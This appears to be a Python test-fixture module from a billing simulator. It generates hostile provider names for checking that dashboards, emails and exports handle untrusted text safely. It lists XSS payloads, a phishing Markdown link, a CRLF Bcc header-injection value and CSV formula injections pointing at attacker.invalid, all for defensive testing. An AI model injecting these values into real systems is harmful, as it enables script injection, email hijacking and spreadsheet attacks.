"""Names a hostile or compromised provider could send (``hostile_names=True``).

Each vendor's synthetic organisation gains these values wherever its wire
format carries text that came from a person: model names on every vendor,
LiteLLM's user, team and key alias, OpenRouter's upstream provider name. IDs
the real APIs generate keep their real prefix, followed by the hostile text
(``user-``, ``proj_``, ``key_``, ``wrkspc_01``, ``apikey_01``), so a client that
checks the prefix still gets the payload. Every value is ordinary JSON text,
billed like any other usage, and part of the ground truth, so totals
reconcile with hostile names present.

What each value attacks:

* HTML: ``<img src=x onerror=alert(1)>``, ``<script>alert(2)</script>``
  (a dashboard or email that renders data as HTML);
* Markdown: an image that makes the browser fetch from another host and a
  link that turns a banner into a phishing link;
* a control-character user id (``\\r\\nBcc:``: header injection in email);
* CSV formulas (``=``, ``+``, ``@``: spreadsheet formula injection on export);
* a name over 300 characters (layouts, column widths, log lines).
"""

from __future__ import annotations

from costpipe.simulator.seeded import SeededHash

__all__ = [
    "FIXED_HOSTILE_NAMES",
    "LONG_NAME_LENGTH",
    "hostile_names",
    "is_hostile_name",
    "long_name",
]

FIXED_HOSTILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "![t](http://127.0.0.1:9/pixel.png)",
    "[click](http://attacker.invalid/)",
    "u1\r\nBcc: attacker@example.com",
    '=HYPERLINK("http://attacker.invalid")',
    "+1+1",
    "@SUM(A1)",
)
LONG_NAME_LENGTH = 320


_LONG_HEAD = "very-long-name-"


def long_name(seed: int) -> str:
    """A name of :data:`LONG_NAME_LENGTH` characters, different per seed."""
    head = _LONG_HEAD
    return head + SeededHash(seed).token(LONG_NAME_LENGTH - len(head), "hostile", "long")


def hostile_names(seed: int) -> tuple[str, ...]:
    """Every hostile value, in a fixed order (the long name last)."""
    return (*FIXED_HOSTILE_NAMES, long_name(seed))


def is_hostile_name(name: str) -> bool:
    """True for a value :func:`hostile_names` returns, whatever the seed (the
    billing code prices hostile models without knowing the seed)."""
    return name in FIXED_HOSTILE_NAMES or (
        name.startswith(_LONG_HEAD) and len(name) == LONG_NAME_LENGTH
    )
